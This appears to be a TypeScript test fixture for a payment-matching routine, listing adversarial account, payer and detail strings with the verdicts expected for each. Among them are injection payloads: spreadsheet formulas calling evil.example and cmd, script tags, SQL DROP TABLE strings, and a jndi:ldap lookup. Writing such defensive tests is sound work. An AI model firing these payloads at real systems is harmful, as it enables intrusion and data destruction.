import { tableOf } from "./table.ts";

/** Texts of attackers and accidents, of 1,500 shillings. Nothing in them is a client's, but in the last lines. */
export const hostile = tableOf(`
  account                                  | payer                                    | details                                  | verdict   | client
  =HYPERLINK("http://evil.example","4821") |                                          |                                          | unmatched |
  =cmd'/C calc'!A0                         | @SUM(1+1)*cmd                            | -2+3+cmd                                 | unmatched |
  <script>alert(1)</script>                | <b>                                      | &lt;img src=x onerror=alert(1)&gt;       | unmatched |
  ' OR 1=1 --                              | Robert'); DROP TABLE clients;            |                                          | unmatched |
  \${jndi:ldap://evil}                     | {{7*7}}                                  | %s%n%00                                  | unmatched |
  __proto__                                | constructor                              | toString                                 | unmatched |
  null                                     | undefined                                | NaN                                      | unmatched |
  "\\u0000\\u0001\\u001b[31m"              | "\\ud800"                                | "\\udfff\\ud83d"                         | unmatched |
  "\\u202e2701284"                         | "\\u2066"                                | "\\ufffe\\uffff"                         | unmatched |
  "\\u0301\\u0301\\u0301\\u0301\\u0301"    | Z̸̢̛a̷͓̐l̶̡̀g̵̨̀o̴̢͝                              | ﷺﷺﷺﷺﷺﷺ                                   | unmatched |
  👍👍👍                                   | 🛒                                       | 💰💰 1500 💰                              | unmatched |
  ٤٨٢١٠٧٢                                  | محمد                                     | 支付                                      | unmatched |
  ...                                      | ---                                      | ///                                      | unmatched |
  '''                                      | ,,,,                                     | ;;;;                                     | unmatched |
  *******                                  | ***                                      | 2547** ***                               | unmatched |
  1.5E+03                                  | 1e999                                    | 0x49A1B0                                 | unmatched |
  -4821073-                                |                                          |                                          | doubtful  |
  ½½½½½½½                                  | ①②③④⑤⑥⑦                                  | ⅣⅧⅡ                                      | unmatched |
  IlIlIlI                                  | OOOOOOO                                  | SSSSSSS                                  | unmatched |
  sema boss                                | mimi tu                                  | nimetuma pesa ya mtandao, asante sana    | unmatched |
  ④⑧②①⓪⑦②                                  |                                          |                                          | sure      | wanjiku
  𝟒𝟖𝟐𝟏𝟎𝟕𝟐                                  |                                          |                                          | sure      | wanjiku
  =4821072+0                               |                                          |                                          | unmatched |
  4821072; DROP TABLE clients              | Robert'); DROP TABLE                     | <script>                                 | sure      | wanjiku
  "4821072\\u0000"                         |                                          | 👍                                       | sure      | wanjiku
  "\\u202a4821072\\u202c"                  | "\\u2066Jane\\u2069"                     |                                          | sure      | wanjiku
`);
